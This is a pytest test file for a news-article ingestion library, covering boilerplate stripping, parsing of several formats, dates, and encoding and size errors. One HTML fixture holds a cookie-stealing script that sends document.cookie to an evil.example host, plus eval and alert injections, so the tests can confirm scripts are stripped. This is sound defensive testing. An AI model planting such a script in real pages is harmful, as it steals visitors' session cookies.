"""Reading articles: boilerplate removal, formats, and every kind of bad input."""

from __future__ import annotations

import datetime as dt
import io
import json
import re
import time
from pathlib import Path

import pytest

from newsevents import ingest, spans
from newsevents.models import Article, InputError

ROOT = Path(__file__).resolve().parents[1]
SHARED = ROOT.parent / "shared"
SEED = SHARED / "examples" / "s400-turkey-article.txt"
EXAMPLES = ROOT / "examples"

SEED_BOILERPLATE = [
    "0 3,340",
    "- Advertisement -",
    "Subscribe to our newsletter",
    "Sign up here to get the latest news, updates and special offers delivered directly to "
    "your inbox.",
    "Get real time updates directly on you device, subscribe now.",
]

GERMAN = (
    "Der russische Präsident hat sich am Montag in Moskau mit seinem türkischen Amtskollegen "
    "getroffen, um über die Zukunft der Beziehungen zwischen beiden Ländern zu sprechen. Die "
    "Regierung in Ankara will an dem Kauf des Raketenabwehrsystems festhalten."
)


def read(*paths: str | Path, **kwargs: object) -> list[Article | InputError]:
    return list(ingest.read_paths([str(path) for path in paths], **kwargs))  # type: ignore[arg-type]


def only_error(records: list[Article | InputError]) -> InputError:
    assert len(records) == 1
    assert isinstance(records[0], InputError), records[0]
    return records[0]


def only_article(records: list[Article | InputError]) -> Article:
    assert len(records) == 1
    assert isinstance(records[0], Article), records[0]
    return records[0]


# --------------------------------------------------------------------------- boilerplate


def test_seed_article_loses_its_boilerplate_and_keeps_every_paragraph() -> None:
    article = only_article(read(SEED))
    raw = SEED.read_text(encoding="utf-8")
    blocks = [block.strip() for block in raw.split("\n\n") if block.strip()]
    title, *body = blocks
    content = [block for block in body if block not in SEED_BOILERPLATE and "\n" not in block]

    assert article.title == title
    assert article.dropped_lines == SEED_BOILERPLATE
    assert article.text.split("\n\n") == content
    assert article.text.startswith("MOSCOW – Russian President Vladimir Putin met")
    assert ingest.validate(article) is None


@pytest.mark.parametrize(
    "line",
    [
        "Putin said no.",
        "Share prices fell 3 percent in Moscow.",
        "By March, Russia had withdrawn its troops.",
        "Published reports said the army withdrew on Monday.",
        "Related talks will resume in Geneva next week.",
        "Recommended sanctions were approved by the council on 3 March 2026.",
        "Video by the ministry showed troops firing on protesters.",
        "Copyright disputes between Beijing and Washington deepened.",
        "Updated figures released on 3 March showed 40 dead.",
        "Sign up for military service is compulsory in Israel.",
        "Follow-up talks are planned for May.",
        "Trending downward, the rouble lost 4 percent.",
        "Baltic states turn to Korea",
        "“No,” Erdogan said.",
    ],
)
def test_real_lines_are_kept(line: str) -> None:
    assert not ingest.is_boilerplate(line)
    text, dropped = ingest.clean_lines(f"{line}\n\nPutin met Erdogan in Moscow.")
    assert dropped == []
    assert text.split("\n\n")[0] == line


@pytest.mark.parametrize(
    "line",
    [
        "0 3,340",
        "3.4K Shares",
        "Share 412 Tweet 96",
        "ADVERTISEMENT",
        "Story continues below advertisement",
        "Facebook Twitter WhatsApp",
        "Share on Facebook Share on Twitter",
        "Share this article",
        "Follow us on Twitter",
        "Subscribe to our newsletter",
        "Sign up for our daily briefing and get the latest updates in your inbox",
        "Get real time updates directly on you device, subscribe now.",
        "This website uses cookies to improve your experience.",
        "Read more: Turkey says S-400 deliveries on schedule",
        "READ MORE",
        "Related: EU ministers split over new Iran listings",
        "Click here to read our full coverage",
        "By Maria Petrova and John Smith | Reuters",
        "Published: February 5, 2026 09:41 GMT",
        "Updated 14 March 2026, 10:32",
        "March 14, 2026",
        "2026-03-14 10:32",
        "5 min read",
        "Photo: Smoke rises over a village west of El Obeid",
        "© 2026 Example Media. All rights reserved.",
        "Tags: Sudan, RSF, Kordofan",
        "12 Comments",
        "Leave a Reply",
    ],
)
def test_boilerplate_lines_are_dropped_and_reported(line: str) -> None:
    text, dropped = ingest.clean_lines(f"Putin met Erdogan.\n\n  {line}  \n\nThe talks ended.")
    assert dropped == [line]
    assert text == "Putin met Erdogan.\n\nThe talks ended."


def test_hard_wrapped_paragraphs_are_joined_and_short_lines_stay_apart() -> None:
    raw = (
        "MOSCOW – Russian President Vladimir Putin met with his Turkish counterpart\n"
        "Recep Tayyip Erdogan on Monday to discuss relations.\n"
        "Sanctions threat\n"
        "The US has threatened sanctions over the purchase of the S-400 systems,\n"
        "officials said.\n"
    )
    text, dropped = ingest.clean_lines(raw)
    assert dropped == []
    assert text.split("\n\n") == [
        "MOSCOW – Russian President Vladimir Putin met with his Turkish counterpart "
        "Recep Tayyip Erdogan on Monday to discuss relations.",
        "Sanctions threat",
        "The US has threatened sanctions over the purchase of the S-400 systems, "
        "officials said.",
    ]


def test_a_dropped_line_separates_paragraphs_and_spaces_are_normalised() -> None:
    raw = "Troops\u00a0crossed   the border near the river at dawn on Sunday, the\n"
    raw += "- Advertisement -\n"
    raw += "army said.\n"
    text, dropped = ingest.clean_lines(raw)
    assert dropped == ["- Advertisement -"]
    assert text == (
        "Troops crossed the border near the river at dawn on Sunday, the\n\narmy said."
    )


@pytest.mark.parametrize(
    ("text", "place", "region", "agency"),
    [
        ("KYIV, Ukraine (AP) — Russian drones struck the city.", "KYIV", "Ukraine", "AP"),
        ("MOSCOW – Putin met Erdogan.", "MOSCOW", None, None),
        ("PORT SUDAN, Sudan — Fighters attacked.", "PORT SUDAN", "Sudan", None),
        ("BEIRUT, Feb 3 (Reuters) - Israel struck.", "BEIRUT", None, "Reuters"),
    ],
)
def test_dateline_is_found_and_left_in_the_text(
    text: str, place: str, region: str | None, agency: str | None
) -> None:
    dateline = spans.find_dateline(text)
    assert dateline is not None
    assert (dateline.place, dateline.region, dateline.agency) == (place, region, agency)
    assert text[dateline.end:][0].isupper()
    article = ingest.article_from_text(text, "d", title_line=False)
    assert article.text == text


@pytest.mark.parametrize(
    "text", ["Putin – the Kremlin leader – spoke.", "US officials said on April 4 that it was."]
)
def test_no_dateline_in_ordinary_sentences(text: str) -> None:
    assert spans.find_dateline(text) is None


# --------------------------------------------------------------------------- formats


def test_txt_title_line_and_default_date(tmp_path: Path) -> None:
    path = tmp_path / "story.txt"
    path.write_text("\n\nKenya deploys police to Haiti\n\nNAIROBI – Kenya sent 200 more "
                    "police officers to Haiti on Tuesday, officials said.\n", encoding="utf-8")
    article = only_article(read(path, default_date=dt.date(2026, 2, 3)))
    assert article.id == "story.txt"
    assert article.title == "Kenya deploys police to Haiti"
    assert article.text.startswith("NAIROBI – Kenya sent 200 more police officers")
    assert article.date == dt.date(2026, 2, 3)


def test_single_line_text_is_body_not_title() -> None:
    article = ingest.article_from_text("Putin met Erdogan in Moscow on Monday.", "one")
    assert article.title is None
    assert article.text == "Putin met Erdogan in Moscow on Monday."


HOSTILE_PAGE = """<!DOCTYPE html><html lang="en"><head>
<meta charset="utf-8">
<title>Ukraine and Moldova sign energy pact | Border Post</title>
<meta property="og:title" content="Ukraine and Moldova sign energy pact">
<meta property="og:site_name" content="Border Post">
<meta property="article:published_time" content="2026-05-04T10:00:00+03:00">
<link rel="canonical" href="https://border-post.example/2026/05/04/energy-pact">
<script>document.write("INJECTED SCRIPT TEXT");
fetch("https://evil.example/?c=" + document.cookie);</script>
</head><body>
<nav><a href="/">Home</a> <a href="/world">World</a> <a href="/sport">Sport</a></nav>
<article>
<h1>Ukraine and Moldova sign energy pact</h1>
<p>CHISINAU, Moldova — Ukrainian President Volodymyr Zelensky and Moldovan President Maia Sandu
signed an agreement on Monday to link their electricity grids more closely and to share gas
storage during the winter, their offices said.</p>
<script>var payload = "<p>SCRIPT PARAGRAPH SHOULD NEVER APPEAR</p>"; eval(payload);</script>
<p>Sandu said the pact would protect Moldova from what she called Russian energy blackmail.
Zelensky said Ukraine would supply electricity to Moldova at cost during emergencies.</p>
<noscript>NOSCRIPT FALLBACK TEXT</noscript>
<p>The two leaders also discussed security along the border with the breakaway region of
Transnistria, where Russia keeps about 1,500 troops, officials said.</p>
<p>Moldova was granted European Union candidate status together with Ukraine in June 2022,
and both countries hope to open the first chapters of accession talks this year.</p>
</article>
<section id="comments" class="comments">
<h3>3 Comments</h3>
<div class="comment"><p>READER COMMENT: this pact is a disgrace, Sandu should resign.</p></div>
<div class="comment"><p>READER COMMENT: finally some good news for Chisinau and Kyiv.</p></div>
</section>
<footer><p>© 2026 Border Post. All rights reserved.</p></footer>
<script src="/js/tracker.js"></script>
</body></html>"""


def test_html_main_text_without_scripts_or_comments(tmp_path: Path) -> None:
    path = tmp_path / "pact.html"
    path.write_text(HOSTILE_PAGE, encoding="utf-8")
    article = only_article(read(path, default_date=dt.date(2020, 1, 1)))

    for forbidden in ("INJECTED", "SCRIPT", "eval(", "NOSCRIPT", "READER COMMENT", "Sport", "©"):
        assert forbidden not in article.text
    paragraphs = article.text.split("\n\n")
    assert paragraphs[0].startswith("CHISINAU, Moldova — Ukrainian President Volodymyr Zelensky")
    assert paragraphs[-1].startswith("Moldova was granted European Union candidate status")
    assert len(paragraphs) == 4
    assert article.title == "Ukraine and Moldova sign energy pact"
    assert article.date == dt.date(2026, 5, 4)  # the page's date wins over the default
    assert article.url == "https://border-post.example/2026/05/04/energy-pact"
    assert article.source == "Border Post"


def test_html_declared_charset_is_honoured(tmp_path: Path) -> None:
    page = HOSTILE_PAGE.replace('charset="utf-8"', 'charset="windows-1251"')
    page = page.replace("Maia Sandu", "Maia Sandu (Майя Санду)")
    path = tmp_path / "cyrillic.html"
    path.write_bytes(page.encode("windows-1251"))
    article = only_article(read(path))
    assert "Maia Sandu (Майя Санду)" in article.text


def test_jsonl_one_bad_line_among_good_ones(tmp_path: Path) -> None:
    good = {"id": "a1", "text": "Egypt and Ethiopia agreed to resume talks on the dam.",
            "date": "2026-04-02", "title": "Nile talks", "url": "https://x.example/a1"}
    lines = [
        json.dumps(good),
        json.dumps({"id": "a2", "text": "Pakistan denied that its troops had opened fire."}),
        '{"id": "a3" "text": "broken"}',
        "",
        json.dumps({"text": "Japan protested against the missile launch."}),
    ]
    path = tmp_path / "briefs.jsonl"
    path.write_text("\n".join(lines) + "\n", encoding="utf-8")
    records = read(path, default_date=dt.date(2026, 1, 1))

    assert [type(record).__name__ for record in records] == [
        "Article", "Article", "InputError", "Article"
    ]
    first, second, error, fourth = records
    assert isinstance(first, Article) and isinstance(second, Article)
    assert (first.id, first.date, first.title, first.url) == (
        "a1", dt.date(2026, 4, 2), "Nile talks", "https://x.example/a1"
    )
    assert second.date == dt.date(2026, 1, 1)
    assert second.title is None  # JSONL text has no title line
    assert isinstance(error, InputError)
    assert error.doc_id == "briefs.jsonl:3"
    assert error.message == "line 3, column 13: invalid JSON (Expecting ',' delimiter)"
    assert isinstance(fourth, Article) and fourth.id == "briefs.jsonl:5"


@pytest.mark.parametrize(
    ("line", "message"),
    [
        ('{"id": "x"}', "line 1: missing 'text' (or 'html')"),
        ('{"id": "x", "text": 42}', "line 1: 'text' must be a string, got a number"),
        ('{"id": "x", "text": "ok", "title": ["a"]}',
         "line 1: 'title' must be a string, got an array"),
        ('{"id": true, "text": "ok"}', "line 1: 'id' must be a string or a number, got a boolean"),
        ('{"id": "x", "text": "ok", "date": "2026-13-01"}',
         "line 1: invalid date '2026-13-01' (expected YYYY-MM-DD)"),
        ('{"id": "x", "text": "ok", "date": "last Monday"}',
         "line 1: invalid date 'last Monday' (expected YYYY-MM-DD)"),
        ('["a", "b"]', "line 1: expected a JSON object, got an array"),
        ('{"id": "x", "text": "ok"', "line 1, column 25: invalid JSON (Expecting ',' delimiter)"),
        # json's own message ends in "at": the position is the column.
        ('{"id": "x", "text": "a\tb"}',
         "line 1, column 23: invalid JSON (Invalid control character)"),
    ],
)
def test_jsonl_bad_lines_have_clear_messages(tmp_path: Path, line: str, message: str) -> None:
    path = tmp_path / "bad.jsonl"
    path.write_text(line + "\n", encoding="utf-8")
    error = only_error(read(path))
    assert error.message == message
    assert error.doc_id == "bad.jsonl:1"


def test_jsonl_html_field_and_gold_style_annotations(tmp_path: Path) -> None:
    html = ("<html><body><article><p>SEOUL – North Korea fired a ballistic missile into the sea "
            "on Friday, the South Korean military said, the third launch this year and the first "
            "since January.</p><p>Japan lodged a protest.</p></article></body></html>")
    gold = json.loads(next(iter((SHARED / "plover" / "gold-dev.jsonl").open(encoding="utf-8"))))
    path = tmp_path / "mixed.jsonl"
    path.write_text(json.dumps({"id": "nk", "html": html, "title": "Missile"}) + "\n"
                    + json.dumps(gold) + "\n", encoding="utf-8")
    html_article, gold_article = read(path)
    assert isinstance(html_article, Article) and isinstance(gold_article, Article)
    assert html_article.text.startswith("SEOUL – North Korea fired a ballistic missile")
    assert html_article.title == "Missile"
    # Gold sets name their actors in "source"; that is not the publisher.
    assert gold_article.id == gold["id"]
    assert gold_article.text == gold["text"]
    assert gold_article.source is None


def test_mixed_folder_recursively_sorted_with_relative_ids(tmp_path: Path) -> None:
    (tmp_path / "b-nested" / "deeper").mkdir(parents=True)
    (tmp_path / ".hidden").mkdir()
    (tmp_path / "a.txt").write_text("Title A\n\nPutin met Erdogan in Moscow on Monday.\n",
                                    encoding="utf-8")
    (tmp_path / "b-nested" / "deeper" / "page.HTM").write_text(HOSTILE_PAGE, encoding="utf-8")
    (tmp_path / "b-nested" / "wire.jsonl").write_text(
        json.dumps({"id": "w1", "text": "Kenya sent police to Haiti."}) + "\n"
        + json.dumps({"id": "w2", "text": "Poland ordered four Patriot batteries."}) + "\n",
        encoding="utf-8",
    )
    (tmp_path / "README.md").write_text("# not an article\n", encoding="utf-8")
    (tmp_path / ".hidden" / "secret.txt").write_text("Hidden\n\nNot read.\n", encoding="utf-8")
    (tmp_path / "c.html").write_text(HOSTILE_PAGE, encoding="utf-8")

    records = read(tmp_path)
    assert all(isinstance(record, Article) for record in records)
    assert [record.id for record in records if isinstance(record, Article)] == [
        "a.txt", "b-nested/deeper/page.HTM", "w1", "w2", "c.html"
    ]


def _parquet(path: Path, columns: dict[str, list[object]], types: dict[str, object]) -> Path:
    import pyarrow as pa
    import pyarrow.parquet as pq

    table = pa.table({name: pa.array(values, type=types.get(name))  # type: ignore[arg-type]
                      for name, values in columns.items()})
    pq.write_table(table, path, row_group_size=2)
    return path


def test_parquet_rows_are_read_like_json_lines(tmp_path: Path) -> None:
    import pyarrow as pa

    path = _parquet(tmp_path / "2026-02-01-archive.parquet", {
        "id": ["a1", None, "a3", "a4"],
        "date": [dt.datetime(2026, 3, 4, 18, 30), None, None, None],
        "title": ["Talks in Doha", None, None, None],
        "text": [
            "Qatar hosted talks between Sudanese army and RSF envoys on Wednesday.",
            "Thailand and Cambodia agreed on Friday to reopen two border crossings.",
            None,
            "Hungary summoned the Ukrainian ambassador on Monday.",
        ],
        "html": [None, None, "<p>Brazil recalled its ambassador to Israel.</p>", None],
        "section": ["world", "asia", "americas", "europe"],  # not ours: never read
    }, {"date": pa.timestamp("s")})
    first, second, third, fourth = read(path, default_date=dt.date(2026, 1, 1))
    assert isinstance(first, Article) and first.id == "a1" and first.title == "Talks in Doha"
    assert first.date == dt.date(2026, 3, 4)  # a timestamp column is the day it names
    assert isinstance(second, Article) and second.id == "2026-02-01-archive.parquet:2"
    assert second.date == dt.date(2026, 1, 1)  # --date before the file name's date
    assert isinstance(third, Article) and third.text == "Brazil recalled its ambassador to Israel."
    assert isinstance(fourth, Article) and fourth.text.startswith("Hungary summoned")
    assert ingest.count_inputs([str(path)]) == 4


def test_parquet_without_a_text_column_and_a_broken_file(tmp_path: Path) -> None:
    no_text = _parquet(tmp_path / "ids.parquet", {"id": ["x"], "body": ["Oman mediated."]}, {})
    error = only_error(read(no_text))
    assert error.doc_id == "ids.parquet" and "has no 'text' (or 'html') column" in error.message
    whole = _parquet(tmp_path / "whole.parquet", {"text": [
        f"Kenya and Somalia held talks on border security, round {n}." for n in range(6)]}, {})
    cut = tmp_path / "cut.parquet"
    cut.write_bytes(whole.read_bytes()[: whole.stat().st_size // 2])
    error = only_error(read(cut))
    assert error.doc_id == "cut.parquet" and "cannot read" in error.message
    bad_type = _parquet(tmp_path / "typed.parquet", {"text": ["Chad closed its border."],
                                                     "title": [7]}, {})
    error = only_error(read(bad_type))
    assert error.doc_id == "typed.parquet:1"
    assert error.message == "row 1: 'title' must be a string, got a number"


def test_skipped_paths_are_told_with_their_reason(tmp_path: Path) -> None:
    (tmp_path / "empty-folder").mkdir()
    (tmp_path / "empty.jsonl").write_text("\n\n", encoding="utf-8")
    scans = tmp_path / "scans"
    scans.mkdir()
    (scans / "report.pdf").write_bytes(b"%PDF-1.4 binary")
    (scans / "photo.png").write_bytes(b"\x89PNG\r\n")
    (scans / ".DS_Store").write_bytes(b"\x00")
    (scans / "2024-06-25-kenya.txt").write_text(
        "Kenya deploys police\n\nKenya deployed 400 police officers to Haiti.\n",
        encoding="utf-8")
    skipped: list[tuple[str, str]] = []
    records = read(tmp_path / "empty-folder", tmp_path / "empty.jsonl", scans,
                   on_skip=lambda path, reason: skipped.append((Path(path).name, reason)))
    assert [r.id for r in records] == ["2024-06-25-kenya.txt"]
    reasons = dict(skipped)
    assert set(reasons) == {"empty-folder", "empty.jsonl", "report.pdf", "photo.png"}
    kinds = ".csv, .htm, .html, .jsonl, .parquet, .txt, .warc, .warc.gz"
    assert f"no {kinds} files" in reasons["empty-folder"]
    assert "empty" in reasons["empty.jsonl"]
    assert "'.pdf'" in reasons["report.pdf"] and "'.png'" in reasons["photo.png"]


def test_count_inputs_counts_files_and_jsonl_records_without_coding() -> None:
    paths = [str(EXAMPLES), str(SEED)]
    assert ingest.count_inputs(paths) == len(read(*paths)) == 10
    assert ingest.count_inputs([str(SEED), "-"]) is None  # stdin cannot be read twice


def test_one_date_rule_for_every_file_type(tmp_path: Path) -> None:
    page = (EXAMPLES / "2025-12-06-tbilisi-protests.html").read_text(encoding="utf-8")
    # The page without the dates it declares (metadata, <time>, URL).
    undated_page = re.sub(r'<meta property="article:published_time"[^>]*>|<time[^>]*>', "", page)
    undated_page = undated_page.replace("/2025/12/06/", "/").replace("December 6, 2025", "")
    (tmp_path / "2025-12-07-tbilisi.html").write_text(undated_page, encoding="utf-8")
    (tmp_path / "2025-12-07-seed.txt").write_text(SEED.read_text(encoding="utf-8"),
                                                  encoding="utf-8")
    (tmp_path / "2025-12-07-wire.jsonl").write_text(
        json.dumps({"id": "undated", "text": "Kenya sent police to Haiti."}) + "\n"
        + json.dumps({"id": "dated", "text": "Kenya sent police.", "date": "2025-01-02"}) + "\n"
        + json.dumps({"id": "page", "html": undated_page}) + "\n",
        encoding="utf-8")
    (tmp_path / "declared.html").write_text(page, encoding="utf-8")

    def dates(**kwargs: object) -> dict[str, dt.date | None]:
        return {a.id: a.date for a in read(tmp_path, **kwargs) if isinstance(a, Article)}

    by_name = dt.date(2025, 12, 7)
    assert dates() == {
        "2025-12-07-seed.txt": by_name,
        "2025-12-07-tbilisi.html": by_name,  # was None: HTML ignored its file name
        "undated": by_name, "page": by_name,
        "dated": dt.date(2025, 1, 2),  # the input's own date comes first
        "declared.html": dt.date(2025, 12, 6),  # so does the page's declared date
    }
    given = dt.date(2026, 1, 1)  # --date comes before the file name, after the input's own
    assert dates(default_date=given) == {
        "2025-12-07-seed.txt": given, "2025-12-07-tbilisi.html": given,
        "undated": given, "page": given,
        "dated": dt.date(2025, 1, 2), "declared.html": dt.date(2025, 12, 6),
    }


# --------------------------------------------------------------------------- standard input


def test_stdin_plain_text() -> None:
    stdin = io.StringIO("Protests in Tbilisi\n\nGeorgian police detained 46 protesters.\n")
    article = only_article(read("-", stdin=stdin, default_date=dt.date(2025, 12, 6)))
    assert (article.id, article.title, article.date) == (
        "stdin", "Protests in Tbilisi", dt.date(2025, 12, 6)
    )
    assert article.text == "Georgian police detained 46 protesters."


def test_stdin_jsonl_with_and_without_ids() -> None:
    stdin = io.StringIO(
        "\n" + json.dumps({"id": "s1", "text": "Iran condemned the sanctions."}) + "\n"
        + json.dumps({"text": "Russia called the sanctions blackmail."}) + "\n"
        + '{"text": }\n'
    )
    records = read("-", stdin=stdin)
    assert [getattr(record, "id", None) for record in records] == ["s1", "stdin:3", None]
    error = records[2]
    assert isinstance(error, InputError)
    assert error.doc_id == "stdin:4"
    assert error.message.startswith("line 4, column 10: invalid JSON")


def test_stdin_bytes_that_are_not_utf8() -> None:
    head = b"Protests in Tbilisi\n\nCaf"
    raw = head + b"\xe9 owners joined the protest.\n"
    stdin = io.TextIOWrapper(io.BytesIO(raw), encoding="utf-8")
    error = only_error(read("-", stdin=stdin))
    assert error.doc_id == "stdin"
    assert f"line 3: not valid UTF-8: byte 0xe9 at byte offset {len(head)};" in error.message
    assert "re-encode" in error.message


# --------------------------------------------------------------------------- bad files


def test_missing_path_and_unsupported_type(tmp_path: Path) -> None:
    missing = only_error(read(tmp_path / "nowhere.txt"))
    assert missing.doc_id == "nowhere.txt"
    assert missing.message.startswith("no such file or folder:")
    pdf = tmp_path / "report.pdf"
    pdf.write_bytes(b"%PDF-1.7")
    unsupported = only_error(read(pdf))
    assert "unsupported file type '.pdf'" in unsupported.message


def test_unreadable_path_is_reported(tmp_path: Path) -> None:
    folder_named_like_a_file = tmp_path / "trap.txt"
    (folder_named_like_a_file / "inner").mkdir(parents=True)
    # A folder is walked, so an article path that cannot be opened is a dangling symlink.
    link = tmp_path / "gone.txt"
    link.symlink_to(tmp_path / "deleted.txt")
    error = only_error(read(link))
    assert "no such file" in error.message
    assert read(folder_named_like_a_file) == []


def test_binary_file_is_refused(tmp_path: Path) -> None:
    path = tmp_path / "image.txt"
    path.write_bytes(b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR")
    error = only_error(read(path))
    assert error.message == "binary data, not text (NUL byte at byte offset 8)"


def test_binary_jsonl_is_refused_once(tmp_path: Path) -> None:
    path = tmp_path / "dump.jsonl"
    path.write_bytes(b"\x00\x01\x02\n" * 1000)
    assert "binary or UTF-16 data" in only_error(read(path)).message
    utf16 = tmp_path / "export.jsonl"
    utf16.write_text(json.dumps({"id": "a", "text": "Kenya sent police."}), encoding="utf-16")
    assert "re-encode" in only_error(read(utf16)).message


def test_non_utf8_file_names_the_byte_and_is_not_replaced(tmp_path: Path) -> None:
    path = tmp_path / "latin1.txt"
    head = "Sanctions\n\nThe caf"
    path.write_bytes(f"{head}é in Zürich closed.".encode("latin-1"))
    error = only_error(read(path))
    assert error.message.startswith(f"not valid UTF-8: byte 0xe9 at byte offset {len(head)};")
    assert "re-encode" in error.message


def test_non_utf8_jsonl_line_is_reported_with_its_offset(tmp_path: Path) -> None:
    path = tmp_path / "mixed.jsonl"
    good = json.dumps({"id": "ok", "text": "Kenya sent police to Haiti."}).encode() + b"\n"
    bad = b'{"id": "bad", "text": "Caf\xe9"}\n'
    path.write_bytes(good + bad)
    article, error = read(path)
    assert isinstance(article, Article) and article.id == "ok"
    assert isinstance(error, InputError)
    assert error.message.startswith(
        f"line 2: not valid UTF-8: byte 0xe9 at byte offset {len(good) + len(bad) - 4};"
    )


def test_utf16_file_is_refused_with_advice(tmp_path: Path) -> None:
    path = tmp_path / "word-export.txt"
    path.write_bytes("Title\n\nPutin met Erdogan.".encode("utf-16"))
    assert "UTF-16" in only_error(read(path)).message


def test_huge_file_is_refused_before_reading(tmp_path: Path) -> None:
    path = tmp_path / "huge.txt"
    with path.open("wb") as handle:  # sparse: 50 MB without writing them
        handle.truncate(50_000_000)
    start = time.perf_counter()
    error = only_error(read(path))
    assert time.perf_counter() - start < 0.5
    assert error.message == (
        f"{path} is 50 MB, larger than the 5 MB limit for a .txt file; "
        "split it into one file per article"
    )


def _file_of_short_lines(path: Path, size: int) -> Path:
    """A .txt file of exactly ``size`` bytes whose body is one short line after another: reading
    turns each single line break into a paragraph break, so the text grows past the file."""
    line = "Russian forces shelled the city on Monday, the officials said.\n"
    body = "Title\n" + line * ((size - 6) // len(line))
    path.write_bytes((body + "x" * (size - len(body))).encode())
    assert path.stat().st_size == size
    return path


def test_a_file_at_the_limit_is_coded_and_one_byte_more_is_refused_exactly(
    tmp_path: Path,
) -> None:
    for size in (ingest.MAX_TEXT_BYTES - 1, ingest.MAX_TEXT_BYTES):
        article = only_article(read(_file_of_short_lines(tmp_path / f"{size}.txt", size)))
        assert len(article.text.encode()) > ingest.MAX_TEXT_BYTES
        assert ingest.validate(article) is None
    over = _file_of_short_lines(tmp_path / "over.txt", ingest.MAX_TEXT_BYTES + 1)
    assert only_error(read(over)).message == (
        f"{over} is 5.000001 MB, larger than the 5 MB limit for a .txt file; "
        "split it into one file per article"
    )


def test_huge_jsonl_line_is_skipped_and_the_next_read(tmp_path: Path) -> None:
    path = tmp_path / "big.jsonl"
    with path.open("w", encoding="utf-8") as handle:
        handle.write('{"id": "big", "text": "' + "a" * (ingest.MAX_HTML_BYTES + 10) + '"}\n')
        handle.write(json.dumps({"id": "small", "text": "Iran condemned the sanctions."}) + "\n")
    error, article = read(path)
    assert isinstance(error, InputError) and error.message.startswith("line 1: longer than")
    assert isinstance(article, Article) and article.id == "small"


# --------------------------------------------------------------------------- validate


def test_validate_empty_after_cleaning() -> None:
    article = ingest.article_from_text(
        "Headline\n\n0 3,340\n\n- Advertisement -\n\nSubscribe to our newsletter\n", "x"
    )
    assert article.text == ""
    assert ingest.validate(article) == "no article text left after removing 3 boilerplate lines"
    assert ingest.validate(Article(id="y", text=" \n ")) == (
        "empty text: the input has no article body"
    )


def test_validate_too_large() -> None:
    sentence = "Russian President Vladimir Putin met his Turkish counterpart on Monday. "
    article = Article(id="big", text=sentence * (6_000_000 // len(sentence)))
    message = ingest.validate(article)
    assert message is not None and message.startswith("text is 5.999976 MB, larger than the 5 MB")


def test_validate_non_english() -> None:
    message = ingest.validate(Article(id="de", text=GERMAN))
    assert message == "text is not English (identified language: 'de'); only English is coded"


def test_language_of() -> None:
    assert ingest.language_of(SEED.read_text(encoding="utf-8")) == "en"
    assert ingest.language_of(GERMAN) == "de"
    assert ingest.language_of("Putin said no.") is None


def test_every_gold_sentence_is_english() -> None:
    """Short newswire sentences are where statistical identifiers go wrong."""
    lines = (SHARED / "plover" / "gold-dev.jsonl").read_text(encoding="utf-8").splitlines()
    texts = [json.loads(line)["text"] for line in lines]
    ingest.language_of(texts[0])  # model load is not part of the per-text cost
    start = time.perf_counter()
    languages = {text: ingest.language_of(text) for text in texts}
    assert {text: lang for text, lang in languages.items() if lang not in ("en", None)} == {}
    assert (time.perf_counter() - start) / len(texts) < 0.005


# --------------------------------------------------------------------------- bundled examples


def test_bundled_examples_read_cleanly() -> None:
    records = read(EXAMPLES)
    articles = [record for record in records if isinstance(record, Article)]
    assert len(articles) == len(records) == 9
    for article in articles:
        assert ingest.validate(article) is None, article.id
        assert article.dropped_lines, article.id  # every example carries page furniture
        assert spans.find_dateline(article.text) is not None, article.id
        words = len(article.text.split())
        if article.id.endswith(".txt"):
            assert article.date == ingest.date_in_name(EXAMPLES / article.id)
        if article.id.endswith((".txt", ".html")):
            assert 400 <= words <= 700, (article.id, words)
        else:
            assert article.date is not None
    html = next(article for article in articles if article.id.endswith(".html"))
    assert html.date == dt.date(2025, 12, 6)
    assert "Paid provocateurs" not in html.text


@pytest.mark.parametrize(
    ("html", "text"),
    [
        ("<p>Putin met Erdogan in Moscow.</p><p>They discussed Syria.</p>",
         "Putin met Erdogan in Moscow.\n\nThey discussed Syria."),
        ("<html><body><nav>Home World Sport</nav><article><p>Kenya sent police to Haiti.</p>"
         "</article></body></html>", "Kenya sent police to Haiti."),
    ],
)
def test_short_html_and_fragments_keep_their_text(html: str, text: str) -> None:
    assert ingest.article_from_html(html, "short").text == text


def test_html_without_text_is_empty_not_an_exception() -> None:
    article = ingest.article_from_html("<html><body><script>alert(1)</script></body></html>", "e")
    assert ingest.validate(article) == "empty text: the input has no article body"


def _wire_briefs() -> list[str]:
    return (EXAMPLES / "wire-briefs-2026-04.jsonl").read_text(encoding="utf-8").splitlines()


def test_nul_and_lone_surrogates_cost_their_record_only(tmp_path: Path) -> None:
    """JSON escapes can carry what no UTF-8 file holds; such a record gets an error with the
    position, and the records around it are read."""
    first, *rest = _wire_briefs()
    record = json.loads(first)
    broken = [
        {**record, "id": "surrogate", "text": record["text"][:40] + "\ud800" + record["text"]},
        {**record, "id": "nul", "text": record["text"] + "\x00"},
        {**record, "id": "title", "title": "Egypt \udc9f Ethiopia"},
    ]
    path = tmp_path / "mixed.jsonl"
    path.write_text("\n".join([*(json.dumps(r) for r in broken), *rest]) + "\n", encoding="utf-8")
    items = read(path)
    errors = [item for item in items if isinstance(item, InputError)]
    assert [e.message for e in errors] == [
        "line 1: 'text' has a lone surrogate U+D800 at character 40, which is not valid text",
        f"line 2: 'text' has a NUL character at character {len(record['text'])}, which is "
        "not valid text",
        "line 3: 'title' has a lone surrogate U+DC9F at character 6, which is not valid text",
    ]
    assert len(items) - len(errors) == len(rest) > 0
    # The Python API and the REST API build articles without the reader: validate says it too.
    article = ingest.article_from_text("Lithuania expelled \ud800 diplomats.", "api")
    assert ingest.validate(article) == (
        "the text has a lone surrogate U+D800 at character 19, which is not valid text")
